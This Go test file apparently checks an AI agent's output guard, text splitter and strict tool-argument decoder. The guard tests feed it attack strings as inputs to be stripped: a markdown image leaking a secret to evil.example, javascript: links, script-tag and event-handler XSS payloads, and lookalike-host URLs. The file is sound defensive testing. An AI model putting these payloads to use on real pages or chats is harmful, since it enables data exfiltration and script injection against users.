package agents

import (
	"strings"
	"testing"
)

func TestGuard(t *testing.T) {
	t.Parallel()
	g := newGuard([]string{"Help.Acme.example"}, []string{"See https://acme.example/plans, or docs.acme.example."},
		[]string{"Nina Nowak nina@customer.example +49 170 1234567", "See https://acme.example/plans. Order 20261234567."})
	for _, k := range []struct{ in, want string }{
		{"Plain words, 3 < 5 and 7 > 2, for you & me.", "Plain words, 3 < 5 and 7 > 2, for you & me."},
		{"It costs 1,200.50 EUR from 2026-11-22 to 31.12.2026, 24/7, e.g. in v2.0.", "It costs 1,200.50 EUR from 2026-11-22 to 31.12.2026, 24/7, e.g. in v2.0."},
		{"See https://acme.example/plans?x=1#y or https://help.acme.example.", "See https://acme.example/plans?x=1#y or https://help.acme.example."},
		{"[our plans](https://acme.example/plans) and docs.acme.example/a", "[our plans](https://acme.example/plans) and docs.acme.example/a"},
		{"Write to nina@customer.example or call +49 (170) 123-4567, order 20261234567.", "Write to nina@customer.example or call +49 (170) 123-4567, order 20261234567."},
		{"![x](https://evil.example/?d=secret) hi", "x hi"},
		{"![x](https://acme.example/a.png) hi", "x hi"},
		{"[click](https://evil.example/?d=1) now", "click now"},
		{"[click](javascript:alert(1)) now", "click) now"},
		{"[a]: https://evil.example/x\nhi", "hi"},
		{"https://evil.example/?q=1", linkRemoved},
		{"HTTPS://EVIL.EXAMPLE/?q=1 x", linkRemoved + " x"},
		{"https://acme.example@evil.example/ x", linkRemoved + " x"},
		{"https://acme.example.evil.example/ x", linkRemoved + " x"},
		{"https://evil.example\\@acme.example/ x", linkRemoved + " x"},
		{"//evil.example/x y", linkRemoved + " y"},
		{"evil.example/?q=1 x", linkRemoved + " x"},
		{"www.evil.com x", linkRemoved + " x"},
		{"data.leaks.here.evil.com x", linkRemoved + " x"},
		{"10.0.0.1:8080/x y", linkRemoved + " y"},
		{"ev\u200bil.com x", linkRemoved + " x"},
		{"https://аcme.example/ x", linkRemoved + " x"},
		{"data:text/html;base64,AAAA x", linkRemoved + " x"},
		{"ftp://evil.example/x y", linkRemoved + " y"},
		{"mailto:eve@evil.example x", linkRemoved + " x"},
		{"Ask bob@other.example or Bob@Other.Example.", "Ask " + emailRemoved + " or " + emailRemoved + "."},
		{"Call +49 170 7654321 now", "Call " + numberRemoved + " now"},
		{"Call 0170/7654321 now", "Call " + numberRemoved + " now"},
		{"id 01890000-0000-7000-8000-00000000dead x", "id " + idRemoved + " x"},
		{"key tdm_abcdefgh_0123456789abcdef x", "key " + idRemoved + " x"},
		{"<b>bold</b> <script>alert(1)</script><img src=x onerror=alert(1)>end", "bold end"},
		{"<scr<script>x</script>ipt>alert(1)</script>", "alert(1)"},
		{"<svg/onload=alert(1)> a", "a"},
		{"<!-- hidden --> a <a href=\"https://evil.example\">b</a>", "a b"},
		{"a <img src=https://acme.example/x", "a < img src=https://acme.example/x"},
	} {
		got, removed := g.Clean(k.in)
		if got != k.want {
			t.Errorf("Clean(%q)\n got %q\nwant %q", k.in, got, k.want)
		}
		if (got != k.in) != (len(removed) > 0) && !strings.Contains(k.in, "<img src=https://acme") {
			t.Errorf("Clean(%q) names %v", k.in, removed)
		}
		if again, _ := g.Clean(got); again != got {
			t.Errorf("Clean is not stable: %q, then %q", got, again)
		}
	}
}

func TestSplit(t *testing.T) {
	t.Parallel()
	got := Split("Intro.\n\n# Prices\nTeam costs 49.\n\nMore.\r\n\r\n## Refunds\n\n30 days.")
	want := []string{"Intro.", "Prices\nTeam costs 49.\n\nMore.", "Refunds\n30 days."}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("got %q, want %q", got, want)
	}
	long := strings.Repeat("This is a sentence of some words. ", 100) + strings.Repeat("x", 3000) + strings.Repeat("日本語", 500)
	words := 0
	for _, p := range Split(long) {
		if len(p) > passageSize {
			t.Errorf("a passage has %d bytes", len(p))
		}
		words += strings.Count(p, "sentence")
	}
	if words != 100 {
		t.Errorf("%d of 100 sentences are left", words)
	}
	if len(Split(" \n\n ")) != 0 {
		t.Error("an empty document has passages")
	}
}

func TestSchemaIsStrict(t *testing.T) {
	t.Parallel()
	type args struct {
		Text  string   `json:"text" max:"10"`
		Level string   `json:"level,omitempty" enum:"low,high"`
		Sure  float64  `json:"sure,omitempty" min:"0" max:"1"`
		Tags  []string `json:"tags,omitempty" max:"2"`
		Count int      `json:"count,omitempty" min:"1" max:"8"`
	}
	s := shapeOf[args]()
	for _, good := range []string{`{"text":"a"}`, `{"text":"a","level":"low","sure":0.5,"tags":["x"],"count":8}`, `{"text":"a","tags":null}`, ` {"text":"a"} `} {
		var a args
		if err := s.decode([]byte(good), &a); err != nil {
			t.Errorf("%s is refused: %v", good, err)
		}
	}
	for _, bad := range []string{
		``, `null`, `[]`, `"x"`, `{`, `{}`, `{"text":""}`, `{"text":" "}`, `{"text":1}`, `{"text":null}`, `{"text":"a","org_id":"x"}`, `{"Text":"a"}`, `{"text":"a","TEXT":"b"}`,
		`{"text":"a","text":"b"}`, `{"text":"a"} {"text":"b"}`, `{"text":"a"}x`, `{"text":"12345678901"}`, `{"text":"a","level":"LOW"}`, `{"text":"a","sure":2}`, `{"text":"a","sure":-1}`,
		`{"text":"a","sure":1e999}`, `{"text":"a","sure":"1"}`, `{"text":"a","tags":["x","y","z"]}`, `{"text":"a","tags":"x"}`, `{"text":"a","tags":[1]}`, `{"text":"a","count":1.5}`,
		`{"text":"a","count":9}`, `{"text":"a\u0000"}`, "{\"text\":\"\xff\"}", `{"text":"` + strings.Repeat("a", maxArgs) + `"}`, strings.Repeat("[", 5000),
	} {
		var a args
		if err := s.decode([]byte(bad), &a); err == nil {
			t.Errorf("%s is taken", clip(bad, 80))
		}
	}
}
